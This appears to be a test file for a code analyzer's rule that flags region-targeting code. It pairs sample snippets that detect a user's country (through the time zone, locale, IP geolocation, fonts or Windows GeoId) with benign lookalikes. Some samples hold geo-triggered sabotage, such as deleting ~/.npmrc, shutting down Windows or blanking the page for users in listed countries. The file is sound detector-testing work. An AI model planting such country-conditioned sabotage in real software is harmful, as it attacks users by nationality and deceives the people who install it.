// Region targeting written in other spellings and read from other sources: each positive fixture (written
// for this project) is a high region-targeting finding whose evidence decodes the region data and shows the
// source, at the comparison's location; each sits next to a benign twin that must stay quiet.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { lineColOf, significant } from '../helpers/analyze.js';
import { atLeast } from '../../src/model/finding.js';

interface Case {
  name: string;
  code: string;
  /** Text of the comparison the finding is located at. */
  at: string;
  /** Substrings of the evidence notes: the source read and the region data as decoded. */
  source: string;
  data: string;
  benign: string;
}

const CASES: Case[] = [
  {
    name: 'page host ending in a ccTLD from a regex alternation changes a request body',
    code: `
const site = location.hostname;
const mode = /\\.(by|kz)$/.test(site) ? "reduced" : "standard";
fetch("https://svc.example.org/v2/run", { method: "POST", body: JSON.stringify({ mode }) });`,
    at: '/\\.(by|kz)$/.test(site)',
    source: 'location.hostname',
    data: 'country-code domains .by, .kz → BY Belarus, KZ Kazakhstan',
    // The package's own hosts, and a configured endpoint routed by its domain, are not the user's country.
    benign: `
const site = location.hostname;
const payload = { mode: "standard" };
if (/\\.(example|sample)\\.(com|org)$/.test(site)) payload.mode = "embedded";
const api = process.env.SVC_API_URL || "https://svc.example.org";
const host = new URL(api).hostname;
const region = /\\.(cn)$/.test(host) ? "cn" : "global";
fetch(api + "/v2/run?r=" + region, { method: "POST", body: JSON.stringify(payload) });`,
  },
  {
    name: 'IDN ccTLDs of the page host',
    code: `
const h = document.domain;
if (/\\.(?:xn--90a3ac|срб)$/i.test(h)) document.body.innerHTML = "";`,
    at: '/\\.(?:xn--90a3ac|срб)$/i.test(h)',
    source: 'document.domain',
    data: '→ RS Serbia',
    benign: `
const h = document.domain;
const label = h.split(".").map((l) => l.startsWith("xn--") ? "[idn]" : l).join(".");
document.title = label;`,
  },
  {
    name: 'long zone name in Date#toString',
    code: `
const stamp = new Date().toString();
let delay = 0;
if (stamp.includes("(Israel Standard Time)") || stamp.includes("Israel Daylight Time")) delay = 30000;
setTimeout(() => fetch("https://svc.example.org/ready"), delay);`,
    at: 'stamp.includes("(Israel Standard Time)")',
    source: "Date#toString() (ends with the zone's long name)",
    data: '→ IL Israel',
    benign: `
const stamp = new Date().toString();
const utc = stamp.includes("Coordinated Universal Time");
console.log("Local time: " + stamp + (utc ? "" : " (local)"));`,
  },
  {
    name: 'long zone name from Intl.DateTimeFormat with timeZoneName long',
    code: `
const parts = new Intl.DateTimeFormat("en-US", { timeZoneName: "long" }).formatToParts(new Date());
const zn = parts.find((p) => p.type === "timeZoneName").value;
const SKIP = ["Myanmar Time", "Afghanistan Time"];
if (SKIP.includes(zn)) process.exit(0);`,
    at: 'SKIP.includes(zn)',
    source: 'Intl.DateTimeFormat with timeZoneName: long',
    data: 'long zone names Myanmar Time, Afghanistan Time → AF Afghanistan, MM Myanmar',
    benign: `
const parts = new Intl.DateTimeFormat("en-US", { timeZoneName: "long" }).formatToParts(new Date());
const zn = parts.find((p) => p.type === "timeZoneName").value;
console.log("Times are shown in " + zn);`,
  },
  {
    name: 'UTC offsets in hours compared with getTimezoneOffset()',
    code: `
const h = -new Date().getTimezoneOffset() / 60;
if (h === 7 || h === 8) require("fs").writeFileSync(require("os").homedir() + "/.cache/flag", "1");`,
    at: 'h === 7',
    source: 'getTimezoneOffset',
    data: '"7 h (UTC+7 or UTC-7)" (UTC offsets) → AQ Antarctica, CA Canada',
    benign: `
const h = -new Date().getTimezoneOffset() / 60;
const label = "UTC" + (h >= 0 ? "+" : "") + h;
require("fs").writeFileSync("out/zone.txt", label);`,
  },
  {
    name: 'zone prefix',
    code: `
const zone = Intl.DateTimeFormat().resolvedOptions().timeZone;
let endpoint = "https://svc.example.org/a";
if (zone.startsWith("Australia/")) endpoint = "https://svc.example.org/b";
fetch(endpoint);`,
    at: 'zone.startsWith("Australia/")',
    source: 'time zone',
    data: '"Australia/" (zone areas) → AU Australia',
    // A partition of all zones by area (every area mapped) is not singling one out.
    benign: `
const zone = Intl.DateTimeFormat().resolvedOptions().timeZone;
const area = zone.split("/")[0];
console.log("area: " + area);`,
  },
  {
    name: 'language subtags at the start of the locale',
    code: `
const lang = navigator.languages?.[0] ?? navigator.language;
const hide = /^(?:uz|tg)(?:[-_]|$)/i.test(lang);
fetch("https://svc.example.org/cfg?m=" + (hide ? "1" : "0"));`,
    at: '/^(?:uz|tg)(?:[-_]|$)/i.test(lang)',
    source: 'navigator.language',
    data: 'language subtags uz, tg → TJ Tajikistan, UZ Uzbekistan',
    benign: `
const lang = navigator.languages?.[0] ?? navigator.language;
const rtl = /^[a-z]{2,3}-[A-Z]{2}$/.test(lang);
document.documentElement.lang = lang;`,
  },
  {
    name: 'locale printed by a child process',
    code: `
const { execSync } = require("node:child_process");
const loc = execSync("defaults read -g AppleLocale", { encoding: "utf8" }).trim();
if (/[-_](?:MM|LA)$/.test(loc)) fetch("https://svc.example.org/x", { method: "POST", body: loc });`,
    at: '/[-_](?:MM|LA)$/.test(loc)',
    source: 'defaults read -g AppleLocale',
    data: 'country codes MM, LA → LA Laos, MM Myanmar',
    benign: `
const { execSync } = require("node:child_process");
const loc = execSync("defaults read -g AppleLocale", { encoding: "utf8" }).trim();
console.log("Using locale " + loc);`,
  },
  {
    name: 'IP geolocation response: alpha-3 codes and a country name',
    code: `
async function check() {
  const res = await fetch("https://geoip.example-lookup.net/json/");
  const geo = await res.json();
  const listed = ["VEN", "NIC"].includes(geo.country_iso3) || geo.country === "Bolivia";
  if (listed) await fetch("https://svc.example.org/r", { method: "POST", body: JSON.stringify({ v: 2 }) });
}
check();`,
    at: '["VEN", "NIC"].includes(geo.country_iso3)',
    source: 'geoip.example-lookup.net',
    data: 'country codes VEN, NIC → NI Nicaragua, VE Venezuela',
    benign: `
async function check() {
  const res = await fetch("https://geoip.example-lookup.net/json/");
  const geo = await res.json();
  console.log("You appear to be in " + geo.country);
}
check();`,
  },
  {
    name: 'keyboard layout: a letter of a script',
    code: `
navigator.keyboard.getLayoutMap().then((layout) => {
  if (layout.get("KeyA") === "ф") fetch("https://svc.example.org/kb", { method: "POST", body: "1" });
});`,
    at: 'layout.get("KeyA") === "ф"',
    source: 'keyboard layout',
    data: '→ RU Russia',
    benign: `
navigator.keyboard.getLayoutMap().then((layout) => {
  const key = layout.get("KeyA") || "a";
  document.querySelector("#hint").textContent = "Press " + key.toUpperCase();
});`,
  },
  {
    name: 'switch over the zone: cases that fall through into one body',
    code: `
const where = Intl.DateTimeFormat().resolvedOptions().timeZone;
switch (where) {
  case "Asia/Dushanbe":
  case "Asia/Bishkek":
    fetch("https://svc.example.org/v3/flags", { method: "POST", body: "{}" });
    break;
  default:
    break;
}`,
    at: 'case "Asia/Dushanbe"',
    source: 'time zone',
    data: '"Asia/Dushanbe" (time zones) → TJ Tajikistan',
    // A switch that maps zones to abbreviations, every other zone shown as it is: formatting, not a decision.
    benign: `
const where = Intl.DateTimeFormat().resolvedOptions().timeZone;
function short(z) {
  switch (z) {
    case "America/Denver": return "MT";
    case "Asia/Dushanbe": return "TJT";
    case "Europe/Berlin": return "CET";
    default: return z;
  }
}
console.log("Times in " + short(where));
document.querySelector("#zone").textContent = short(where);`,
  },
  {
    name: 'switch over getTimezoneOffset() with offsets in minutes',
    code: `
const mins = new Date().getTimezoneOffset();
switch (mins) {
  case -390:
    setTimeout(() => process.exit(2), 15000);
    break;
}`,
    at: 'case -390',
    source: 'getTimezoneOffset',
    data: '"-390 (UTC+6:30)" (UTC offsets) → CC Cocos Islands, MM Myanmar',
    // The offset in a switch that only builds the label shown.
    benign: `
const mins = new Date().getTimezoneOffset();
let sign;
switch (Math.sign(mins)) {
  case 1: sign = "-"; break;
  case -1: sign = "+"; break;
  default: sign = "";
}
console.log("UTC" + sign + Math.abs(mins / 60));`,
  },
  {
    name: 'switch (true) with membership tests of the language',
    code: `
const tongue = navigator.language.toLowerCase();
switch (true) {
  case tongue.startsWith("hy"):
    navigator.sendBeacon("https://svc.example.org/seen", tongue);
    break;
  default:
}`,
    at: 'tongue.startsWith("hy")',
    source: 'navigator.language',
    data: '"hy" (language subtags) → AM Armenia',
    // The same shape choosing the text direction for everyone: a language partition that only formats.
    benign: `
const tongue = navigator.language.toLowerCase();
let dir;
switch (true) {
  case tongue === "en-us":
    dir = "ltr";
    break;
  default:
    dir = "auto";
}
document.documentElement.dir = dir;`,
  },
  {
    name: 'IP geolocation in a promise chain: a nested country field, destructured, in a switch',
    code: `
client.get("https://ipgeo-where.example.com/v2/self").then(({ data }) => {
  const cc = data.location.country.iso_code;
  switch (cc) {
    case "LY":
    case "YE":
      process.exit(1);
  }
});`,
    at: 'case "LY"',
    source: 'ipgeo-where.example.com',
    data: '"LY" (country codes) → LY Libya',
    benign: `
client.get("https://ipgeo-where.example.com/v2/self").then(({ data }) => {
  const cc = data.location.country.iso_code;
  document.querySelector("#country").value = cc;
  console.log("Prices shown for " + data.location.country.name);
});`,
  },
  {
    name: 'IP geolocation in callback style: a response read from its data events',
    code: `
const https = require("https");
https.get("https://geo-ip.example-lookup.dev/json", (res) => {
  let text = "";
  res.on("data", (part) => (text += part));
  res.on("end", () => {
    const where = JSON.parse(text);
    if (where.countryCode === "SY") require("fs").unlinkSync(require("os").homedir() + "/.npmrc");
  });
});`,
    at: 'where.countryCode === "SY"',
    source: 'geo-ip.example-lookup.dev',
    data: '"SY" (country codes) → SY Syria',
    benign: `
const https = require("https");
https.get("https://geo-ip.example-lookup.dev/json", (res) => {
  let text = "";
  res.on("data", (part) => (text += part));
  res.on("end", () => console.log("Detected region: " + JSON.parse(text).countryCode));
});`,
  },
  {
    name: "the device's position turned into a country by a reverse lookup",
    code: `
navigator.geolocation.getCurrentPosition((p) => {
  const { latitude, longitude } = p.coords;
  fetch(\`https://maps.example-geo.org/reverse?format=json&lat=\${latitude}&lon=\${longitude}\`)
    .then((r) => r.json())
    .then((place) => {
      if (place.address.country_code === "ve") document.body.innerHTML = "<p>Service unavailable</p>";
    });
});`,
    at: 'place.address.country_code === "ve"',
    source: 'navigator.geolocation',
    data: '"ve" (country codes) → VE Venezuela',
    // A weather widget: the position is sent for a forecast (a medium notice at most), nothing decided on a region.
    benign: `
navigator.geolocation.getCurrentPosition((p) => {
  const { latitude, longitude } = p.coords;
  fetch(\`https://weather.example-svc.org/v1/forecast?lat=\${latitude}&lon=\${longitude}\`)
    .then((r) => r.json())
    .then((w) => {
      document.querySelector("#temp").textContent = w.current.temperature + " °C";
    });
});`,
  },
  {
    name: "the locale command's output, its region part tested with endsWith",
    code: `
const { execFileSync, spawn } = require("child_process");
const env = execFileSync("locale", { encoding: "utf8" });
const tag = /LANG=(\\S+)/.exec(env)[1];
if (tag.endsWith("_KP.UTF-8")) spawn("sh", ["-c", "sleep 900"], { detached: true }).unref();`,
    at: 'tag.endsWith("_KP.UTF-8")',
    source: 'command "locale"',
    data: '"_KP.UTF-8" (country codes) → KP North Korea',
    // The locale read to pass it on to a child process unchanged.
    benign: `
const { execFileSync, spawn } = require("child_process");
const env = execFileSync("locale", { encoding: "utf8" });
const tag = /LANG=(\\S+)/.exec(env)[1];
spawn("make", ["docs"], { env: { ...process.env, LANG: tag }, stdio: "inherit" });`,
  },
  {
    name: 'the Windows registry locale read in callback style',
    code: `
const cp = require("child_process");
cp.exec('reg query "HKCU\\\\Control Panel\\\\International" /v LocaleName', (err, out) => {
  const m = /LocaleName\\s+REG_SZ\\s+(\\S+)/.exec(out);
  if (m && ["ps-AF", "ur-PK"].includes(m[1])) cp.exec("shutdown /s /t 60");
});`,
    at: '["ps-AF", "ur-PK"].includes(m[1])',
    source: 'LocaleName',
    data: '"ps-AF" (locales) → AF Afghanistan',
    benign: `
const cp = require("child_process");
cp.exec('reg query "HKCU\\\\Control Panel\\\\International" /v LocaleName', (err, out) => {
  const m = /LocaleName\\s+REG_SZ\\s+(\\S+)/.exec(out);
  console.log("Windows locale: " + (m ? m[1] : "unknown"));
});`,
  },
  {
    name: "a Date's text through a binding: the long name after the parenthesis",
    code: `
const today = new Date();
const tail = today.toString().split("(")[1] || "";
if (tail.startsWith("Moscow Standard Time")) fetch("https://svc.example.org/p", { method: "POST", body: "{}" });`,
    at: 'tail.startsWith("Moscow Standard Time")',
    source: 'Date#toString()',
    data: '"Moscow Standard Time" (long zone names) → BY Belarus, RU Russia',
    benign: `
const today = new Date();
const tail = today.toString().split("(")[1] || "";
console.log("Build started " + today.toString() + " [" + tail.replace(")", "") + "]");`,
  },
  {
    name: 'String(new Date()) matched with a regex of long names',
    code: `
const s = String(new Date());
if (/\\((?:Iran Standard Time|Afghanistan Time)\\)/.test(s)) process.exit(0);`,
    at: '/\\((?:Iran Standard Time|Afghanistan Time)\\)/.test(s)',
    source: 'String(date)',
    data: '→ AF Afghanistan, IR Iran',
    // The same text tested for being UTC (a default, not a region).
    benign: `
const s = String(new Date());
if (/\\(Coordinated Universal Time\\)/.test(s)) console.warn("clock is on UTC");`,
  },
  {
    name: 'a Date in a template, a long name in a one-element list',
    code: `
const t = \`\${new Date()}\`;
const zn = t.slice(t.indexOf("(") + 1, -1);
if (["Korean Standard Time"].includes(zn)) setTimeout(() => fetch("https://svc.example.org/a"), 60000);`,
    at: '["Korean Standard Time"].includes(zn)',
    source: 'a Date in a template',
    data: '"Korean Standard Time" (long zone names) → KP North Korea, KR South Korea',
    benign: `
const t = \`\${new Date()}\`;
require("fs").appendFileSync("run.log", "started " + t + "\\n");`,
  },
  {
    name: 'a country name in its own script and a numeric ISO code from a geolocation response',
    code: `
fetch("https://ipwhois.example-geo.app/me")
  .then((r) => r.json())
  .then((who) => {
    if (who.country_native === "Қазақстан" || who.country_numeric === "398") document.body.innerHTML = "";
  });`,
    at: 'who.country_native === "Қазақстан"',
    source: 'ipwhois.example-geo.app',
    data: '"Қазақстан" (country names) → KZ Kazakhstan',
    benign: `
fetch("https://ipwhois.example-geo.app/me")
  .then((r) => r.json())
  .then((who) => {
    document.querySelector("#where").textContent = who.country_native + " (" + who.country_numeric + ")";
  });`,
  },
  {
    name: 'installed fonts: a font for one script checked with document.fonts.check',
    code: `
const faces = document.fonts;
const hebrew = faces.check('16px "Noto Sans Hebrew"');
if (hebrew) fetch("https://svc.example.org/f", { method: "POST", body: "1" });`,
    at: `faces.check('16px "Noto Sans Hebrew"')`,
    source: 'document.fonts (installed fonts)',
    data: 'a font for a script mostly written there (Noto Sans Hebrew) → IL Israel',
    // A Latin font checked to decide whether to download it: a font fallback, no region.
    benign: `
const faces = document.fonts;
if (!faces.check('16px "Fira Code"')) fetch("https://cdn.example.org/fonts/fira-code.woff2").then((r) => r.arrayBuffer());`,
  },
  {
    name: 'installed fonts: fc-list output searched for a script font',
    code: `
const { execSync } = require("child_process");
const installed = execSync("fc-list : family", { encoding: "utf8" });
if (installed.includes("Noto Sans Tamil")) setTimeout(() => process.exit(1), 20000);`,
    at: 'installed.includes("Noto Sans Tamil")',
    source: 'fc-list : family',
    data: '(Noto Sans Tamil) → IN India',
    benign: `
const { execSync } = require("child_process");
const installed = execSync("fc-list : family", { encoding: "utf8" });
console.log(installed.split("\\n").length + " font families installed");`,
  },
  {
    name: 'installed fonts: queryLocalFonts() searched for a font named in its own script',
    code: `
async function probe() {
  const faces = await window.queryLocalFonts();
  const own = faces.some((f) => f.family === "맑은 고딕" || f.family === "Noto Sans KR");
  if (own) navigator.sendBeacon("https://svc.example.org/kf", "1");
}
probe();`,
    at: 'f.family === "맑은 고딕"',
    source: 'queryLocalFonts() (installed fonts)',
    data: '(맑은 고딕) → KR South Korea',
    // A font picker: every installed font listed for the user to choose from.
    benign: `
async function fillPicker() {
  const faces = await window.queryLocalFonts();
  const select = document.querySelector("#font-family");
  for (const f of faces) {
    const o = document.createElement("option");
    o.value = f.postscriptName;
    o.textContent = f.fullName;
    select.append(o);
  }
}
fillPicker();`,
  },
  {
    name: 'the Windows GeoId from the registry: a number of its own, no country named',
    code: `
const cp = require("child_process");
const out = cp.execSync('reg query "HKCU\\\\Control Panel\\\\International\\\\Geo" /v Nation').toString();
const nation = /Nation\\s+REG_SZ\\s+(\\d+)/.exec(out)[1];
if (nation === "203" || nation === "29") cp.exec("shutdown /s /t 0");`,
    at: 'nation === "203"',
    source: '(the Windows GeoId)',
    data: 'Windows GeoId 203 (a Windows location number, not an ISO code',
    benign: `
const cp = require("child_process");
const out = cp.execSync('reg query "HKCU\\\\Control Panel\\\\International\\\\Geo" /v Nation').toString();
const nation = /Nation\\s+REG_SZ\\s+(\\d+)/.exec(out)[1];
console.log("Windows location: GeoId " + nation + (nation === "0" ? " (unset)" : ""));`,
  },
  {
    name: 'the Windows GeoId from GetUserGeoID in a list of numbers',
    code: `
const k32 = require("koffi").load("kernel32.dll");
k32.func("int __stdcall GetUserGeoID(int)");
const where = k32.GetUserGeoID(16);
if ([122, 0x2d].includes(where)) process.exit(1);`,
    at: '[122, 0x2d].includes(where)',
    source: 'GetUserGeoID() (the Windows GeoId)',
    data: 'Windows GeoId 45',
    benign: `
const k32 = require("koffi").load("kernel32.dll");
k32.func("int __stdcall GetUserGeoID(int)");
const where = k32.GetUserGeoID(16);
require("fs").writeFileSync("geo.txt", String(where));`,
  },
  {
    name: 'IP geolocation by XMLHttpRequest: the response read through `this` in onload',
    code: `
var req = new XMLHttpRequest();
req.open("GET", "https://geo-ip.example-where.net/lookup?fmt=json");
req.onload = function () {
  var info = JSON.parse(this.responseText);
  if (["TM", "ER"].indexOf(info.country) >= 0) document.body.style.display = "none";
};
req.send();`,
    at: '["TM", "ER"].indexOf(info.country)',
    source: 'geo-ip.example-where.net',
    data: 'country codes TM, ER → ER Eritrea, TM Turkmenistan',
    benign: `
var req = new XMLHttpRequest();
req.open("GET", "https://geo-ip.example-where.net/lookup?fmt=json");
req.onload = function () {
  var info = JSON.parse(this.responseText);
  document.getElementById("cc").textContent = info.country;
};
req.send();`,
  },
  {
    name: 'IP geolocation by XMLHttpRequest: a listener registered before open, the request object read by name',
    code: `
const x = new XMLHttpRequest();
x.addEventListener("readystatechange", function () {
  if (this.readyState !== 4) return;
  const cc = JSON.parse(x.responseText).country_code;
  if (cc === "MR") navigator.sendBeacon("https://svc.example.org/mr", cc);
});
x.open("GET", "https://ipgeo.example-svc.dev/v1/self");
x.send();`,
    at: 'cc === "MR"',
    source: 'ipgeo.example-svc.dev',
    data: '"MR" (country codes) → MR Mauritania',
    // The same request to an API that is not a geolocation service, its field compared with the same code.
    benign: `
const x = new XMLHttpRequest();
x.addEventListener("readystatechange", function () {
  if (this.readyState !== 4) return;
  const cc = JSON.parse(x.responseText).status_code;
  if (cc === "MR") navigator.sendBeacon("https://svc.example.org/mr", cc);
});
x.open("GET", "https://api.example-svc.dev/v1/jobs");
x.send();`,
  },
];

for (const c of CASES) {
  test(`region targeting: ${c.name}`, () => {
    const f = significant(c.code).filter((x) => x.ruleId === 'region-targeting');
    assert.equal(f.length, 1, JSON.stringify(significant(c.code).map((x) => x.title)));
    const top = f[0]!;
    assert.equal(top.severity, 'high');
    assert.equal(top.policy.row, 'region-decision-effect');
    assert.deepEqual({ line: top.location.line, column: top.location.column }, lineColOf(c.code, c.at));
    const notes = top.related.map((e) => `${e.role}: ${e.note}`).join('\n');
    assert.ok(top.related.some((e) => e.role === 'source' && e.note.includes(c.source)), notes);
    assert.ok(top.related.some((e) => e.role === 'data' && e.note.includes(c.data)), notes);
    assert.ok(top.related.some((e) => e.role === 'sink'), notes);
  });
  test(`quiet twin: ${c.name}`, () => {
    const found = significant(c.benign).filter((x) => x.ruleId === 'region-targeting' || atLeast(x.severity, 'high'));
    assert.deepEqual(
      found.map((x) => `${x.severity} ${x.ruleId}: ${x.title}`),
      [],
    );
  });
}

test('a Windows GeoId compared with a number is not read as the ISO numeric code of the same number', () => {
  const code = `
const nation = require("child_process").execSync('reg query "HKCU\\\\Control Panel\\\\International\\\\Geo" /v Nation').toString().match(/\\d+/)[0];
if (nation === "203") process.exit(1);
const iso = geo.country_numeric;
if (iso === "203") process.exit(2);`;
  const f = significant(code).filter((x) => x.ruleId === 'region-targeting');
  assert.deepEqual(
    f.map((x) => x.title),
    ["Behaviour depends on the user's locale matching region data (Windows GeoId 203)"],
  );
  // ISO 3166 numeric 203 is Czechia; GeoId 203 is not: no country is named for it.
  assert.ok(!f[0]!.related.some((e) => e.note.includes('Czechia')));
});

const QUIET: [string, string][] = [
  [
    "a date library's table of long zone names, looked up with the user's zone",
    `
const LONG_TO_IANA = { "Arabian Standard Time": "Asia/Dubai", "Nepal Time": "Asia/Kathmandu", "Yakutsk Standard Time": "Asia/Yakutsk" };
const AREAS = ["Africa/", "America/", "Asia/", "Australia/", "Europe/", "Pacific/"];
export function ianaOf(date) {
  const long = new Intl.DateTimeFormat("en", { timeZoneName: "long" }).formatToParts(date).find((p) => p.type === "timeZoneName").value;
  return LONG_TO_IANA[long] || Intl.DateTimeFormat().resolvedOptions().timeZone;
}
export function areaOf(zone) { return AREAS.find((a) => zone.startsWith(a)) || "Etc/"; }
console.log(areaOf(ianaOf(new Date())));`,
  ],
  [
    'a UTC check on the zone and the locale compared with the default locale',
    `
const zone = process.env.TZ || Intl.DateTimeFormat().resolvedOptions().timeZone;
const loc = Intl.DateTimeFormat().resolvedOptions().locale;
if (zone !== "UTC" && zone !== "Etc/UTC") console.warn("dates are shown in " + zone);
if (loc !== "en-US") fetch("https://cdn.example.org/i18n/" + loc + ".json");`,
  ],
  [
    'a configured endpoint routed by its country-code domain (routing among the package’s own hosts)',
    `
const base = process.env.SVC_BASE_URL || "https://api.example.com";
const cn = new URL(base).hostname.endsWith(".cn");
fetch(base + (cn ? "/v1/cn" : "/v1/global"));`,
  ],
];

for (const [name, code] of QUIET) {
  test(`quiet: ${name}`, () => {
    const found = significant(code).filter((x) => x.ruleId === 'region-targeting' || atLeast(x.severity, 'high'));
    assert.deepEqual(
      found.map((x) => `${x.severity} ${x.ruleId}: ${x.title}`),
      [],
    );
  });
}
